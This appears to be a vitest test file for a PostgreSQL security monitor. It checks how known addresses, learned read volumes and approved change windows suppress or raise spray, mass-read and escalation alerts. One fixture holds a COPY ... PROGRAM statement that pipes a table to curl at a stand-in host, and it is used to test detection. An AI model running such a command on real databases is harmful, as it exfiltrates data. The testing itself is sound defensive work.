import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { AlertSignal } from '../../../src/monitor/alert-signal.js';
import { UserAnalytics } from '../../../src/monitor/analytics/index.js';
import { ChangeWindows } from '../../../src/monitor/change-windows.js';
import type { UntimedEvent } from '../../../src/monitor/event.js';
import { MonitorPipeline } from '../../../src/monitor/pipeline.js';
import { loadRules, RuleEngine } from '../../../src/monitor/rules/index.js';
import { min, t0 } from './engine-helpers.js';

// What the monitor knows beyond an event (context.*) and the rules that use it: a failure from an
// address the account works from is no spray, rows within a principal's learned hourly volume are
// no mass read, and an approved change window covers its principal's privilege changes (M-07
// "outside an approved migration"). Events go through the pipeline as the daemon runs it: the
// analytics and the change windows enrich, the whole built-in pack judges.

const hour = 60 * min;
const day = 24 * hour;

type Timed = { at: number; event: UntimedEvent };

/** The alerts fired at or after `from` (history before it only teaches the analytics). */
async function replay(events: Timed[], windows = new ChangeWindows(), from = -Infinity): Promise<AlertSignal[]> {
  return (await run(events, windows)).fired.filter((f) => f.at >= from).map((f) => f.signal);
}

async function run(events: Timed[], windows = new ChangeWindows()) {
  let now = events[0]?.at ?? t0;
  const clock = () => now;
  const analytics = new UserAnalytics({ clock });
  const fired: { at: number; signal: AlertSignal }[] = [];
  const pipeline = new MonitorPipeline({
    engine: new RuleEngine({ rules: await loadRules(), clock }),
    analytics: { observe: (e) => analytics.observe(e).events, noteAlert: (u, s) => analytics.noteAlert(u, s) },
    enrichers: [analytics, windows],
    clock,
    onSignals: async (signals) => {
      for (const signal of signals) if (signal.kind === 'fire') fired.push({ at: now, signal });
    },
  });
  // Flushed once a second of receive time, as the daemon does: incidents quiet for a window close.
  let flushed = now;
  for (const { at, event } of [...events].sort((a, b) => a.at - b.at)) {
    if (at - flushed >= 1000) {
      now = at;
      await pipeline.flush();
      flushed = at;
    }
    now = at;
    await pipeline.push([event]);
  }
  now += 2 * day;
  await pipeline.flush();
  return { fired, analytics };
}

let seq = 0;
const ev = (
  at: number,
  e: Omit<UntimedEvent, 'id' | 'source' | 'severity' | 'fields'> & Partial<UntimedEvent>,
): Timed => ({
  at,
  event: { id: `ctx:${++seq}`, source: 'security-event', severity: 'notice', fields: {}, ...e },
});
const login = (at: number, user: string, addr: string) => ev(at, { type: 'auth.login_succeeded', user, addr });
const failure = (at: number, user: string, addr: string) =>
  ev(at, { type: 'auth.login_failed', user, addr, fields: { reason: 'wrong_password' } });
const rules = (signals: AlertSignal[]) => signals.map((s) => s.rule.id).sort();

/** Ten working days (before `start`) of each user logging in from `addr`, twice a day. */
function history(users: string[], addr: string, start: number): Timed[] {
  const out: Timed[] = [];
  for (let d = 10; d >= 1; d--)
    for (const u of users) {
      out.push(login(start - d * day, u, addr), login(start - d * day + 4 * hour, u, addr));
    }
  return out;
}

describe('context.known_address: accounts failing where they work are no spray', () => {
  const office = '198.51.100.20';
  const staff = Array.from({ length: 11 }, (_, i) => `staff-${i}@example.com`);
  const start = t0 + 20 * day;

  it('raises nothing when 11 colleagues behind their office NAT mistype a rotated password, then get in [M-03][M-15]', async () => {
    const events = history(staff, office, start);
    staff.forEach((u, i) => {
      events.push(failure(start + i * 2 * min, u, office), login(start + i * 2 * min + 20_000, u, office));
    });
    expect(rules(await replay(events))).toEqual([]);
  });

  it('still raises the spray when the same 11 accounts fail from an address new to them [M-03]', async () => {
    const events = history(staff, office, start);
    staff.forEach((u, i) => events.push(failure(start + i * min, u, '203.0.113.66')));
    expect(rules(await replay(events))).toEqual(['pg-password-spray']);
  });

  it('still raises the spray when the 11 accounts never worked from the office before (10 accounts do not) [M-03]', async () => {
    const strangers = staff.map((u) => `other-${u}`);
    const events = history(staff, office, start);
    strangers.forEach((u, i) => events.push(failure(start + i * min, u, office)));
    expect(rules(await replay(events))).toEqual(['pg-password-spray']);
    const ten = history(staff, office, start);
    strangers.slice(0, 10).forEach((u, i) => ten.push(failure(start + i * min, u, office)));
    expect(rules(await replay(ten))).toEqual([]);
  });

  it('needs two earlier sightings: one login from the address does not make it known [M-03]', async () => {
    const events: Timed[] = staff.map((u) => login(start - day, u, office));
    staff.forEach((u, i) => events.push(failure(start + i * min, u, office)));
    expect(rules(await replay(events))).toEqual(['pg-password-spray']);
  });

  it('never learns an address from failures: after three days of failing from it, it is still new to the accounts [M-03]', async () => {
    const attacker = '203.0.113.99';
    const events: Timed[] = [];
    for (let d = 0; d < 3; d++) staff.forEach((u, i) => events.push(failure(start + d * day + i * min, u, attacker)));
    const { analytics } = await run(events);
    const next = failure(start + 3 * day, staff[0]!, attacker).event;
    expect(analytics.contextOf({ ...next, time: start + 3 * day })).toEqual({ known_address: false });
  });
});

describe('context.usual_volume: rows within the principal’s learned hourly volume are no mass read', () => {
  const start = t0 + 20 * day;
  const rows = (at: number, user: string, n: number) =>
    ev(at, { type: 'pg.rows_read', source: 'stats', user, fields: { rows: n } });
  /** An hour of reading `total` rows in 20 s deltas. */
  const readHour = (from: number, user: string, total: number) =>
    Array.from({ length: 180 }, (_, i) => rows(from + i * 20_000, user, Math.round(total / 180)));
  /** A nightly batch that read about a million rows an hour for ten nights. */
  const nights = (user: string) => {
    const out: Timed[] = [];
    for (let d = 10; d >= 1; d--) out.push(...readHour(start - d * day, user, 900_000 + (d % 3) * 100_000));
    return out;
  };

  it('raises nothing for the nightly batch reading its usual million rows [M-15]', async () => {
    const events = [...nights('etl_batch'), ...readHour(start, 'etl_batch', 1_000_000)];
    expect(rules(await replay(events, undefined, start))).toEqual([]);
  });

  it('raises a mass read when the batch account reads several times its usual volume', async () => {
    const events = [...nights('etl_batch'), ...readHour(start, 'etl_batch', 4_000_000)];
    expect(rules(await replay(events, undefined, start))).toEqual(['pg-mass-read']);
  });

  it('raises a mass read for an account that never read much, and for one the analytics has not learned yet', async () => {
    const analyst: Timed[] = [];
    for (let d = 10; d >= 1; d--) analyst.push(...readHour(start - d * day, 'analyst_kim', 3_000));
    // 1.2 M rows an hour is 200 000 per 10 min, twice the rule's threshold.
    analyst.push(...readHour(start, 'analyst_kim', 1_200_000));
    expect(rules(await replay(analyst, undefined, start))).toEqual(['pg-mass-read']);
    expect(rules(await replay(readHour(start, 'newcomer', 1_200_000)))).toEqual(['pg-mass-read']);
  });
});

describe('context.change_window: approved changes [M-07]', () => {
  const start = t0 + 20 * day;
  const opened = (at: number, id: number, principal: string, from: number, until: number, verified = true): Timed =>
    ev(at, {
      type: 'monitor.change_window_opened',
      user: 'lena@example.com',
      dbUser: 'pgw_security_admin',
      fields: verified
        ? { window_id: id, window_verified: true, window_principal: principal, window_starts: from, window_ends: until }
        : { window_id: id, principal },
    });
  const dropPolicy = (at: number, user: string) =>
    ev(at, {
      type: 'ddl.policy',
      user,
      dbUser: user,
      severity: 'warning',
      fields: { command_tag: 'DROP POLICY', action: 'drop', object_identity: 'orders_read on app.orders' },
    });
  const grant = (at: number, user: string) =>
    ev(at, {
      type: 'pg.statement',
      source: 'server-log',
      user,
      dbUser: user,
      severity: 'info',
      statement: 'grant pg_read_all_data to reporting',
    });
  const window = opened(start - hour, 7, 'migrator', start, start + hour);

  it('raises nothing for the migrator’s DROP POLICY inside its approved window', async () => {
    expect(rules(await replay([window, dropPolicy(start + 10 * min, 'migrator')]))).toEqual([]);
  });

  it('raises the DROP POLICY before the window starts and after it ends', async () => {
    expect(rules(await replay([window, dropPolicy(start - min, 'migrator')]))).toEqual(['pg-policy-dropped']);
    expect(rules(await replay([window, dropPolicy(start + hour, 'migrator')]))).toEqual(['pg-policy-dropped']);
  });

  it('raises another role’s escalation during the migrator’s window', async () => {
    expect(rules(await replay([window, grant(start + 5 * min, 'dba_omar')]))).toEqual(['pg-privilege-escalation']);
  });

  it('ignores an opening event the source could not verify against monitor.change_windows (forged with logs.log_event)', async () => {
    const forged = opened(start - hour, 7, 'migrator', start, start + hour, false);
    expect(rules(await replay([forged, dropPolicy(start + 10 * min, 'migrator')]))).toEqual(['pg-policy-dropped']);
  });

  it('raises again once the window was closed early', async () => {
    const closed = ev(start + 5 * min, {
      type: 'monitor.change_window_closed',
      user: 'lena@example.com',
      fields: { window_id: 7 },
    });
    expect(rules(await replay([window, closed, dropPolicy(start + 10 * min, 'migrator')]))).toEqual([
      'pg-policy-dropped',
    ]);
  });

  it('covers a role-catalog change through the role that changed, and never COPY … PROGRAM', async () => {
    const windows = new ChangeWindows([{ id: '9', principal: 'reporting', startsAt: start, endsAt: start + hour }]);
    const catalog = ev(start + min, {
      type: 'pg.role_granted',
      source: 'monitor',
      severity: 'warning',
      fields: { role: 'pg_read_all_data', member: 'reporting' },
    });
    expect(rules(await replay([catalog], windows))).toEqual([]);
    const copy = ev(start + min, {
      type: 'pg.statement',
      source: 'server-log',
      user: 'migrator',
      severity: 'info',
      statement: "copy app.orders to program 'curl -d @- https://x.example'",
    });
    expect(rules(await replay([window, copy]))).toEqual(['pg-copy-program']);
  });

  it('refuses a rule naming an unknown context field (PW602)', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'pgwarden-context-rule-'));
    try {
      const file = join(dir, 'x.yml');
      await writeFile(
        file,
        [
          '- id: x-context',
          '  title: x',
          '  severity: low',
          '  match:',
          '    type: pg.login',
          '    context.trusted: true',
          '  window: 1m',
          '',
        ].join('\n'),
      );
      await expect(loadRules({ builtin: false, files: [file] })).rejects.toMatchObject({ code: 'PW602' });
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });
});
